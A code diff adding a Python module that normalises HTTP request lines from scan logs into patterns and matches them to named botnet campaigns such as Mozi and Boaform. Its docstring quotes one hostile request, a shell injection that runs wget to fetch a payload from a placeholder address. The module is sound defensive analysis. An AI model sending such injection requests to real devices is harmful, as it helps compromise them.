@@ -1,0 +1,188 @@
+"""Request lines -> patterns, and patterns -> named campaigns.
+
+A scanning campaign sends the same request from many devices, changing only
+what identifies the sender or the payload server: the download IP and port,
+a session token, a password tried.  ``normalise`` keeps what identifies the
+*request* (method, path, parameter names, the shape of an injected command,
+protocol) and replaces what varies by placeholders:
+
+============  =====================================================================
+``<v>``       the value of a ``name=value`` query parameter (split at ``&``) or path
+              parameter (``;name=value`` inside a path segment)
+``<ip>``      an IPv4 or IPv6 address
+``<host>``    the host name of a URL (``scheme://host``)
+``:<port>``   a port after an address, a host or a placeholder
+``<hex>``     a run of 16 or more hexadecimal digits (hashes, tokens)
+``<tok>``     a run of 24 or more letters, digits, ``_`` or ``-`` mixing letters and digits
+``<n>``       a number standing alone (not part of a word such as ``v2`` or ``x86``)
+============  =====================================================================
+
+So the seed's four Mozi lines are one pattern (``GET /board.cgi?cmd=<v> HTTP/1.0``)
+and its nine Boaform lines another; ``/shell?cd+/tmp;wget+http://<ip>:<port>/x``
+keeps its command (it has no ``=``) with the address and port replaced.  Paths
+are kept: ``/``, ``/index.html`` and ``/favicon.ico`` stay three patterns.  A
+request line that is not ``METHOD target HTTP/x.y`` is ``<tls>`` (a TLS
+ClientHello sent to the HTTP port), ``<binary>`` (other control bytes), ``<none>``
+(no request line: ``-``), ``<empty>`` (an empty one) or its own text with the placeholders applied.
+
+Named campaigns (``CampaignMatcher``) are regular expressions searched in the
+whole, unescaped request line, read from ``data/campaigns.tsv`` and from user
+files of the same format.  A request that one names belongs to that campaign
+whatever its pattern, so a named campaign is always one row of the report.
+"""
+
+from __future__ import annotations
+
+import re
+from functools import lru_cache
+from collections.abc import Iterable, Sequence
+from importlib import resources
+from pathlib import Path
+from typing import NamedTuple
+
+from .errors import TcpfpError
+
+__all__ = ["Campaign", "CampaignMatcher", "CampaignFileError", "load_campaigns", "normalise"]
+
+# --------------------------------------------------------------------------- patterns
+
+_REQUEST = re.compile(r"([A-Z][A-Z0-9_-]*) (\S+(?: \S+)*?) (HTTP/\d\.\d)")
+_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\xff]")
+
+_IP6 = re.compile(r"(?<![\w:.])\[?(?=[0-9A-Fa-f:]*::|(?:[0-9A-Fa-f]{1,4}:){7})"
+                  r"[0-9A-Fa-f]{0,4}(?::[0-9A-Fa-f]{0,4}){2,7}\]?(?!\w)")
+_IP4 = re.compile(r"(?<![\w.])(?:\d{1,3}\.){3}\d{1,3}(?![\w.])")
+_HOST = re.compile(r"(?<=://)[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+(?=[:/?#]|$)")
+_PORT = re.compile(r"(?<=>):\d{1,5}(?!\w)")
+_HEX = re.compile(r"(?<![A-Za-z0-9])[0-9A-Fa-f]{16,}(?![A-Za-z0-9])")
+_TOKEN = re.compile(r"(?<![\w-])(?=[\w-]*\d)(?=[\w-]*[A-Za-z])[\w-]{24,}(?![\w-])")
+_NUMBER = re.compile(r"(?<![\w<])\d+(?!\w)")
+_MATRIX = re.compile(r";([^/;=]+)=[^/;]*")
+_DIGIT_OR_LONG = re.compile(r"\d|[0-9A-Za-z_-]{16,}|:")
+
+
+def _tokens(text: str) -> str:
+    """Addresses, hosts, ports, hashes, tokens and numbers of ``text`` as placeholders."""
+    if _DIGIT_OR_LONG.search(text) is None:
+        return text
+    text = _IP4.sub("<ip>", text)
+    if ":" in text:
+        text = _HOST.sub("<host>", text)
+        text = _IP6.sub("<ip>", text)
+        text = _PORT.sub(":<port>", text)
+    text = _HEX.sub("<hex>", text)
+    text = _TOKEN.sub("<tok>", text)
+    return _NUMBER.sub("<n>", text)
+
+
+_VALUE = re.compile(r"=[^&]+")
+
+
+@lru_cache(maxsize=1 << 14)
+def _shape(query: str) -> str:
+    """A query whose values are already ``<v>``: placeholders in names and in value-less parts."""
+    return "&".join(_tokens(part) for part in query.split("&"))
+
+
+def _query(query: str) -> str:
+    return _shape(_VALUE.sub("=<v>", query))
+
+
+@lru_cache(maxsize=1 << 14)
+def _path(path: str) -> str:
+    if ";" in path:
+        path = _MATRIX.sub(r";\1=<v>", path)
+    return _tokens(path)
+
+
+def _target(target: str) -> str:
+    path, mark, query = target.partition("?")
+    return _path(path) + mark + (_query(query) if query else "")
+
+
+def normalise(request: str | None) -> str:
+    """The pattern of one (unescaped) request line."""
+    if request is None:
+        return "<none>"
+    if not request:
+        return "<empty>"
+    m = _REQUEST.fullmatch(request)
+    if m is not None:
+        method, target, protocol = m.groups()
+        return f"{method} {_target(target)} {protocol}"
+    if request.startswith("\x16\x03"):
+        return "<tls>"
+    if _CONTROL.search(request) is not None:
+        return "<binary>"
+    head, _, rest = request.partition(" ")
+    if rest and head.isupper() and head.isalpha():  # HTTP/0.9 style "GET /path", or a CONNECT
+        return f"{head} {_target(rest)}"
+    return _tokens(request)
+
+
+# --------------------------------------------------------------------------- named campaigns
+
+
+class CampaignFileError(TcpfpError):
+    """A campaign definition file we cannot read or use."""
+
+
+class Campaign(NamedTuple):
+    name: str
+    expression: re.Pattern[str]
+    description: str
+
+
+def _parse(text: str, origin: str) -> list[Campaign]:
+    campaigns = []
+    for number, line in enumerate(text.splitlines(), 1):
+        if not line.strip() or line.lstrip().startswith("#"):
+            continue
+        fields = line.split("\t")
+        if len(fields) < 2 or not fields[0].strip() or not fields[1]:
+            raise CampaignFileError(
+                f"{origin} line {number}: expected 'name<TAB>regular expression<TAB>description'")
+        try:
+            expression = re.compile(fields[1])
+        except re.error as error:
+            raise CampaignFileError(f"{origin} line {number}: bad regular expression: {error}") from None
+        campaigns.append(Campaign(fields[0].strip(), expression, "\t".join(fields[2:]).strip()))
+    return campaigns
+
+
+def load_campaigns(extra: Sequence[str | Path] = (), *, shipped: bool = True) -> list[Campaign]:
+    """The campaigns of the user files ``extra`` (first), then the shipped ones."""
+    campaigns: list[Campaign] = []
+    for path in extra:
+        try:
+            text = Path(path).read_text(encoding="utf-8")
+        except (OSError, UnicodeDecodeError) as error:
+            raise CampaignFileError(f"--campaigns {path}: {getattr(error, 'strerror', None) or error}") from None
+        campaigns += _parse(text, str(path))
+    if shipped:
+        text = resources.files("tcpfp_cli").joinpath("data/campaigns.tsv").read_text(encoding="utf-8")
+        campaigns += _parse(text, "campaigns.tsv")
+    return campaigns
+
+
+class CampaignMatcher:
+    """Names requests by the first campaign whose expression matches."""
+
+    def __init__(self, campaigns: Iterable[Campaign]) -> None:
+        self.campaigns = list(campaigns)
+        self.descriptions = {}
+        for c in self.campaigns:
+            self.descriptions.setdefault(c.name, c.description)
+        try:  # one search rules out most requests; user expressions that cannot be joined are tried one by one
+            self._any = re.compile("|".join(f"(?:{c.expression.pattern})" for c in self.campaigns)) \
+                if self.campaigns else None
+        except re.error:
+            self._any = re.compile("")
+
+    def name(self, request: str | None) -> str | None:
+        if request is None or self._any is None or self._any.search(request) is None:
+            return None
+        for campaign in self.campaigns:
+            if campaign.expression.search(request):
+                return campaign.name
+        return None
